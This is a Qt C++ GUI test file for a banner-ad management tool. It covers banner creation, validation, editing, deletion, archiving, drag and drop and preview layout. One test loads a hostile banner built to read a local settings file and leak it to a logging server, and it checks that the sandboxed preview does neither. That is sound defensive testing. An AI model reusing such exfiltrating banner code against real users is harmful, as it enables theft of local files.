            QCOMPARE(field(dialog, "EdSpace")->text(), FromData(kUnnamedBannerPrefix) + QStringLiteral("1"));
            QCOMPARE(combo(dialog, "CBNetwork")->currentText(), FromData(kNoNetworkName));
            QCOMPARE(combo(dialog, "CBType")->currentText(), FromData(kKindUnknown));
            QCOMPARE(field(dialog, "EdPV")->text(), QStringLiteral("0"));
            QCOMPARE(dialog.htmlText(), std::string(" "));

            const struct {
                const char* name;
                const char* pv;
                QString message;
                const char* focus;
            } refused[] = {
                { "", "0", QStringLiteral("広告名を入力してください。"), nullptr },
                { "de[lta", "0", QStringLiteral("広告名に\"]\"と\"[\"を使わないでください。"), nullptr },
                { "beta", "0", QStringLiteral("広告名[beta]はすでに使われています。"), "EdSpace" },
                { "delta", "12a", QStringLiteral("ページビュー数は整数で入力してください。"), "EdPV" },
            };
            for (const auto& r : refused) {
                field(dialog, "EdSpace")->setText(QLatin1String(r.name));
                field(dialog, "EdPV")->setText(QLatin1String(r.pv));
                m_messages.clear();
                clickOk(dialog);
                QVERIFY(dialog.isVisible());
                QCOMPARE(m_messages, QStringList { r.message });
                if (r.focus)
                    QCOMPARE(dialog.focusWidget(), field(dialog, r.focus));
            }
            field(dialog, "EdPV")->setText(QStringLiteral("-5"));
            dialog.htmlEditor()->LoadPage(html, LineBreak::CrLf);
            dialog.leaveHtmlEditor();
            QCOMPARE(combo(dialog, "CBType")->currentText(), FromData(kKindImage) + QStringLiteral("468x60"));
            QCOMPARE(dialog.preview()->untrustedHtml(), html);
            clickOk(dialog);
            QVERIFY(!dialog.isVisible());
        });
        QCOMPARE(catalogue().Rows.size(), size_t(4));
        QCOMPARE(selectedName(), QStringLiteral("delta"));
        const TAdBanner& added = *catalogue().Rows.back();
        QCOMPARE(added.Number, 4);
        QCOMPARE(added.PV, -5);
        QCOMPARE(added.BannerHTML, html);
        QCOMPARE(previewFile(), html);
        QCOMPARE(nodeStatus("delta"), nsMatched);
        const auto ads = adsIniFile();
        QCOMPARE(ads->ReadInteger("Setups", "AdCount", 0), 4);
        QCOMPARE(ads->ReadString(BannerSection(4), "PV", ""), std::string("-5"));

        // Cancel adds nothing; a picked type stays when the HTML is left.
        withEditor("NewBanner", [&](TFmBanner& dialog) {
            QCOMPARE(field(dialog, "EdSpace")->text(), FromData(kUnnamedBannerPrefix) + QStringLiteral("1"));
            combo(dialog, "CBType")->setCurrentIndex(2);
            dialog.htmlEditor()->LoadPage(html, LineBreak::CrLf);
            dialog.leaveHtmlEditor();
            QCOMPARE(combo(dialog, "CBType")->currentText(), FromData(kKindFlash));
        });
        QCOMPARE(catalogue().Rows.size(), size_t(4));
    }

    // In a list sorted by name, a new banner takes its place in the order and
    // a renamed one moves to its new place; the selection goes with them.
    void sortedListKeepsItsOrderOnAddAndRename()
    {
        writeSettings({ { "SortColumn", -1 } }); // by name, ascending
        startForm();
        QCOMPARE(shownNames(),
            (QStringList { QStringLiteral("Alpha"), QStringLiteral("beta"), QStringLiteral("gamma") }));
        withEditor("NewBanner", [&](TFmBanner& dialog) {
            field(dialog, "EdSpace")->setText(QStringLiteral("delta"));
            dialog.htmlEditor()->LoadPage("<b>d</b>", LineBreak::CrLf);
            dialog.leaveHtmlEditor();
            clickOk(dialog);
        });
        QCOMPARE(shownNames(),
            (QStringList { QStringLiteral("Alpha"), QStringLiteral("beta"), QStringLiteral("delta"),
                QStringLiteral("gamma") }));
        QCOMPARE(selectedName(), QStringLiteral("delta"));
        withEditor("EditBanner", [&](TFmBanner& dialog) {
            field(dialog, "EdSpace")->setText(QStringLiteral("zeta"));
            clickOk(dialog);
        });
        QCOMPARE(shownNames(),
            (QStringList { QStringLiteral("Alpha"), QStringLiteral("beta"), QStringLiteral("gamma"),
                QStringLiteral("zeta") }));
        QCOMPARE(selectedName(), QStringLiteral("zeta"));
    }

    // Edit: a refused name then Cancel changes nothing; keeping the own
    // name is accepted; a rename re-rates the page's blocks of both names.
    void editBanner()
    {
        writeBlockPage("beta", kBanners[0].html);
        writeSettings({ { "SortColumn", 0 } });
        startForm();
        openPage();
        QCOMPARE(nodeStatus("beta"), nsMatched);
        selectBanner("beta");
        withEditor("EditBanner", [&](TFmBanner& dialog) {
            QCOMPARE(field(dialog, "EdSpace")->text(), QStringLiteral("beta"));
            QCOMPARE(field(dialog, "EdPV")->text(), QStringLiteral("10"));
            QCOMPARE(dialog.htmlText(), std::string(kBanners[0].html));
            QCOMPARE(dialog.preview()->untrustedHtml(), std::string(kBanners[0].html));
            field(dialog, "EdSpace")->setText(QStringLiteral("be[ta"));
            clickOk(dialog);
            QVERIFY(dialog.isVisible());
            field(dialog, "EdSpace")->setText(QStringLiteral("Alpha"));
            clickOk(dialog);
            QVERIFY(dialog.isVisible());
        });
        QCOMPARE(catalogue().SelectedBanner()->SpaceName, std::string("beta"));
        QCOMPARE(adsIniFile()->ReadString(BannerSection(1), "SpaceName", ""), std::string("beta"));

        withEditor("EditBanner", [&](TFmBanner& dialog) {
            field(dialog, "EdPV")->setText(QStringLiteral("99"));
            clickOk(dialog);
            QVERIFY(!dialog.isVisible());
        });
        QCOMPARE(list()->model()->index(0, 3).data().toString(), QStringLiteral("99"));
        QCOMPARE(adsIniFile()->ReadString(BannerSection(1), "PV", ""), std::string("99"));

        withEditor("EditBanner", [&](TFmBanner& dialog) {
            field(dialog, "EdSpace")->setText(QStringLiteral("omega"));
            clickOk(dialog);
        });
        QCOMPARE(list()->model()->index(0, 0).data().toString(), QStringLiteral("omega"));
        QCOMPARE(nodeStatus("beta"), nsUnlisted);
    }

    // Delete asks and renumbers; archive asks, appends its line and removes.
    void deleteAndArchive()
    {
        writeBlockPage("beta", kBanners[0].html);
        writeSettings({ { "SortColumn", 0 } });
        startForm();
        openPage();
        selectBanner("beta");
        for (const auto answer : { QMessageBox::Cancel, QMessageBox::No }) {
            m_answers << answer;
            action("DeleteBanner")->trigger();
            QCOMPARE(catalogue().Rows.size(), size_t(3));
        }
        m_answers << QMessageBox::Yes;
        action("DeleteBanner")->trigger();
        QCOMPARE(shownNames(), (QStringList { QStringLiteral("Alpha"), QStringLiteral("gamma") }));
        QCOMPARE(selectedName(), QStringLiteral("Alpha"));
        QCOMPARE(catalogue().Rows[1]->Number, 2);
        QCOMPARE(nodeStatus("beta"), nsUnlisted);
        QCOMPARE(adsIniFile()->ReadInteger("Setups", "AdCount", 0), 2);
        QCOMPARE(adsIniFile()->ReadString(BannerSection(2), "SpaceName", ""), std::string("gamma"));

        const std::string archive = m_settings + "/" + std::string(kArchiveFile);
        m_answers << QMessageBox::No;
        action("ArchiveBanner")->trigger();
        QCOMPARE(catalogue().Rows.size(), size_t(2));
        QVERIFY(!std::filesystem::exists(archive));
        selectBanner("gamma");
        m_messages.clear();
        m_answers << QMessageBox::Yes;
        action("ArchiveBanner")->trigger();
        QCOMPARE(shownNames(), QStringList { QStringLiteral("Alpha") });
        QCOMPARE(selectedName(), QStringLiteral("Alpha"));
        QCOMPARE(ReadFile(archive),
            ArchiveLine(TAdBanner {
                0, nullptr, "gamma", "Flash", 7, 1, ComputeClickRate(7, 1), 4000, kBanners[2].html, {} }));
        QCOMPARE(m_messages.size(), 2);
        QVERIFY(m_messages[1].contains(QString::fromStdString(archive)));
        QCOMPARE(adsIniFile()->ReadInteger("Setups", "AdCount", 0), 1);
    }

    // The list drags exactly while Jump is enabled. A banner dropped on the
    // editor offers normal or rotation at the drop point; dropped on an ad
    // tree node it replaces that node's block; over no node it is refused.
    void dropsOnEditorAndTree()
    {
        writeBlockPage("beta", kBanners[0].html);
        writeSettings({ { "SortColumn", 0 } });
        startForm();
        openPage();
        ScintillaPageEditor* editor = activeTab()->editor();
        selectBanner("gamma");
        QVERIFY(action("Jump")->isEnabled());
        QVERIFY(list()->dragEnabled());
        list()->selectionModel()->clear();
        QVERIFY(!list()->dragEnabled());
        selectBanner("gamma");
        QVERIFY(list()->dragEnabled());
        const std::unique_ptr<QMimeData> drag(list()->model()->mimeData({ list()->model()->index(2, 0) }));
        QVERIFY(drag->hasFormat(QLatin1String(kBannerMimeType)));

        // On the editor: the start of the last line.
        const std::string before = editor->PageBytes();
        editor->setCursorPosition(0, 0);
        const long position = editor->SendScintilla(QsciScintillaBase::SCI_POSITIONFROMLINE, 4UL);
        const QPoint point(
            static_cast<int>(editor->SendScintilla(QsciScintillaBase::SCI_POINTXFROMPOSITION, 0UL, position)) + 2,
            static_cast<int>(editor->SendScintilla(QsciScintillaBase::SCI_POINTYFROMPOSITION, 0UL, position)) + 2);
        QDragEnterEvent enter(point, Qt::CopyAction, drag.get(), Qt::LeftButton, Qt::NoModifier);
        QApplication::sendEvent(editor->viewport(), &enter);
        QDragMoveEvent move(point, Qt::CopyAction, drag.get(), Qt::LeftButton, Qt::NoModifier);
        QApplication::sendEvent(editor->viewport(), &move);
        QDropEvent drop(QPointF(point), Qt::CopyAction, drag.get(), Qt::LeftButton, Qt::NoModifier);
        QApplication::sendEvent(editor->viewport(), &drop);
        auto* menu = m_form->findChild<QMenu*>(QStringLiteral("PMAddAdMenu"));
        QVERIFY(menu->isVisible());
        // Beside the pointer, not under it: a pointer inside a new menu lets a
        // focus-follows-pointer window manager close it at once.
        const QPoint pointer = editor->viewport()->mapToGlobal(point);
        QVERIFY(!menu->geometry().contains(pointer));
        QVERIFY((menu->pos() - pointer).manhattanLength() <= 4);
        menu->findChild<QAction*>(QStringLiteral("MIAddNormal"))->trigger();
        menu->close();
        const std::string block = BuildAdBlock("gamma", kBanners[2].html, abNormal, PageEncoding::ShiftJis);
        QCOMPARE(editor->PageBytes(),
            before.substr(0, before.size() - std::string("<p>end</p>\r\n").size()) + block + "\r\n<p>end</p>\r\n");

        // On the tree: empty space refuses, the node "beta" takes Alpha.
        selectBanner("Alpha");
        QTreeView* tree = activeTab()->adTreeView();
        const QModelIndex betaNode = activeTab()->adTreeModel()->index(0, 0);
        QCOMPARE(betaNode.data().toString(), QStringLiteral("beta"));
        const QPoint onNode = tree->visualRect(betaNode).center();
        const QPoint empty(5, tree->viewport()->height() - 3);
        QVERIFY(!tree->indexAt(empty).isValid());
        QDragEnterEvent treeEnter(empty, Qt::CopyAction, drag.get(), Qt::LeftButton, Qt::NoModifier);
        QApplication::sendEvent(tree->viewport(), &treeEnter);
        QVERIFY(treeEnter.isAccepted());
        QDragMoveEvent overEmpty(empty, Qt::CopyAction, drag.get(), Qt::LeftButton, Qt::NoModifier);
        QApplication::sendEvent(tree->viewport(), &overEmpty);
        QVERIFY(!overEmpty.isAccepted());
        QDragMoveEvent overNode(onNode, Qt::CopyAction, drag.get(), Qt::LeftButton, Qt::NoModifier);
        QApplication::sendEvent(tree->viewport(), &overNode);
        QVERIFY(overNode.isAccepted());
        editor->setCursorPosition(0, 0);
        QDropEvent treeDrop(QPointF(onNode), Qt::CopyAction, drag.get(), Qt::LeftButton, Qt::NoModifier);
        QApplication::sendEvent(tree->viewport(), &treeDrop);
        const std::string bytes = editor->PageBytes();
        QVERIFY(bytes.find(BuildAdBlock("Alpha", kBanners[1].html, abNormal, PageEncoding::ShiftJis))
            != std::string::npos);
        QVERIFY(bytes.find("beta") == std::string::npos);
        QVERIFY(bytes.find(block) != std::string::npos);
    }

    // Banner code is untrusted: in the preview and in the editor's preview it
    // shows its image but reads no local file and sends nothing anywhere.
    void hostileBannerReadsNoFileAndSendsNothing()
    {
        const QString logFile = m_dir.filePath(QStringLiteral("requests.log"));
        QFile::remove(logFile);
        pw::test::FormServer server;
        QVERIFY(server.startScript(
            QStringLiteral(PAGEWICK_SOURCE_DIR "/tests/gui/fixtures/log_server.py"), { logFile }));
        writeSettings({ { "SortColumn", 0 } });
        const std::string secret = m_settings + "/" + std::string(kMainSettingsFile);
        QVERIFY(QFile::exists(QString::fromStdString(secret)));
        const std::string hostile = HostileBanner(server, secret);
        startForm();
        catalogue().Rows[2]->BannerHTML = hostile;

        auto* preview = m_form->findChild<QWidget*>(QStringLiteral("PnPreview"))->findChild<WebPane*>();
        QSignalSpy loaded(preview, &WebPane::loadFinished);
        selectBanner("gamma");
        QCOMPARE(previewFile(), hostile);
        QVERIFY(QTest::qWaitFor([&] { return !loaded.isEmpty(); }, 20000));
        // The leaks run at once; the move away after 200 ms.
        QTest::qWait(1500);
        QCOMPARE(evaluate(preview, QStringLiteral("document.getElementById('ad').naturalWidth")).toInt(), 2);
        QCOMPARE(evaluate(preview, QStringLiteral("window.fileRead")).toBool(), false);
        QCOMPARE(LoggedRequests(logFile), QStringList { QStringLiteral("GET /ad.png") });

        QFile::remove(logFile);
        withEditor("NewBanner", [&](TFmBanner& dialog) {
            QSignalSpy editorLoaded(dialog.preview(), &WebPane::loadFinished);
            dialog.htmlEditor()->LoadPage(hostile, LineBreak::CrLf);
            dialog.leaveHtmlEditor();
            QCOMPARE(dialog.preview()->untrustedHtml(), dialog.htmlText());
            QVERIFY(QTest::qWaitFor([&] { return !editorLoaded.isEmpty(); }, 20000));
            QTest::qWait(1500);
            QCOMPARE(
                evaluate(dialog.preview(), QStringLiteral("document.getElementById('ad').naturalWidth")).toInt(),
                2);
            QCOMPARE(evaluate(dialog.preview(), QStringLiteral("window.fileRead")).toBool(), false);
        });
        QCOMPARE(LoggedRequests(logFile), QStringList { QStringLiteral("GET /ad.png") });
    }

    // A hidden preview starts no web engine: it shows the selected banner
    // once the user shows it.
    void hiddenPreviewWaitsUntilShown()
    {
        writeSettings({ { "SortColumn", 0 }, { "PreviewAd", 0 } });
        startForm();
        QCOMPARE(previewFile(), std::string(kBanners[0].html));
        selectBanner("gamma");
        QVERIFY(m_form->findChildren<QWebEnginePage*>().isEmpty());

        auto* preview = m_form->findChild<QWidget*>(QStringLiteral("PnPreview"))->findChild<WebPane*>();
        QSignalSpy loaded(preview, &WebPane::loadFinished);
        m_form->findChild<QAction*>(QStringLiteral("MIAdPreview"))->trigger();
        QVERIFY(preview->isVisible());
        QVERIFY(QTest::qWaitFor([&] { return !loaded.isEmpty(); }, 20000));
        QCOMPARE(previewFile(), std::string(kBanners[2].html));
        QCOMPARE(evaluate(preview, QStringLiteral("document.body.innerHTML.length > 0")).toBool(), true);
    }

    // In the window's font, a name of underscores is drawn whole with air
    // below it inside its row; at 1280x800 the preview has room for a 468x60
    // banner, even when an older version stored its narrow width, and the
    // list keeps its columns.
    void listRowsAndPreviewHaveRoom()
    {
        // The window program's font where the desktop's has no Japanese.
        const QFont before = QApplication::font();
        QFont japanese(QStringLiteral("IPAGothic"));
        japanese.setPointSizeF(before.pointSizeF());
        QApplication::setFont(japanese);
        const auto restoreFont = qScopeGuard([&] { QApplication::setFont(before); });
        QCOMPARE(QFontInfo(QApplication::font()).family(), QStringLiteral("IPAGothic"));

        writeSettings({ { "SortColumn", 0 } });
        TIniList store;
        QVERIFY(LoadSettingsFile(store, m_settings, kMainSettingsFile).ok);
        store.WriteInteger("PnPreview", "width", 127);
        QVERIFY(SaveSettingsFile(store, m_settings, kMainSettingsFile).ok);
        startForm();
        m_form->setGeometry(0, 0, 1280, 800);
        QVERIFY(m_form->minimumSizeHint().width() <= 1280 && m_form->minimumSizeHint().height() <= 800);

        catalogue().Rows[0]->SpaceName = "__________";
        qobject_cast<BannerListModel*>(list()->model())->rowChanged(0);
        selectBanner("gamma");
        const QRect row = list()->visualRect(list()->model()->index(0, 0));
        const QImage image = list()->viewport()->grab().toImage();
        const QRgb background = image.pixel(row.right() - 2, row.top() + 1);
        int inkBottom = -1;
        for (int y = row.top(); y <= row.bottom(); ++y)
            for (int x = row.left(); x < row.left() + 40; ++x)
                if (std::abs(qGray(image.pixel(x, y)) - qGray(background)) > 60)
                    inkBottom = y;
        QVERIFY2(inkBottom >= 0, "the underscores are not drawn");
        QVERIFY2(inkBottom <= row.bottom() - 2,
            qPrintable(QStringLiteral("ink to %1 in a row from %2 to %3")
                           .arg(inkBottom)
                           .arg(row.top())
                           .arg(row.bottom())));

        auto* preview = m_form->findChild<QWidget*>(QStringLiteral("WBPreview"));
        // The banner and the page's margins of 8 pixels each side.
        QTRY_VERIFY2(preview->width() >= 468 + 2 * 8, qPrintable(QString::number(preview->width())));
        int columns = 0;
        for (int column = 0; column < 3; ++column)
            columns += list()->header()->sectionSize(column);
        QVERIFY2(list()->viewport()->width() >= columns, qPrintable(QString::number(list()->viewport()->width())));
    }

    // Selecting no banner shows an empty page; a double click on a row runs
    // the edit command.
    void previewAndDoubleClick()
    {
        writeSettings({ { "SortColumn", 0 } });
        startForm();
        QCOMPARE(previewFile(), std::string(kBanners[0].html));
        selectBanner("gamma");
        QCOMPARE(previewFile(), std::string(kBanners[2].html));
        list()->selectionModel()->clear();
        QVERIFY(catalogue().SelectedBanner() == nullptr);
        QCOMPARE(previewFile(), std::string());
        QVERIFY(!action("EditBanner")->isEnabled());

        selectBanner("Alpha");
        QVERIFY(action("EditBanner")->isEnabled());
        QString edited;
        QTimer::singleShot(0, this, [&] {
            auto* dialog = m_form->findChild<TFmBanner*>(QStringLiteral("FmBanner"));
            if (dialog && dialog->isVisible()) {
                edited = field(*dialog, "EdSpace")->text();
                dialog->reject();
            }
        });
        const QRect cell = list()->visualRect(list()->model()->index(1, 0));
        QTest::mouseClick(list()->viewport(), Qt::LeftButton, {}, cell.center());
        QTest::mouseDClick(list()->viewport(), Qt::LeftButton, {}, cell.center());
        QCOMPARE(edited, QStringLiteral("Alpha"));
    }
};

QTEST_MAIN(BannerFlowTest)
#include "bannerflow_test.moc"
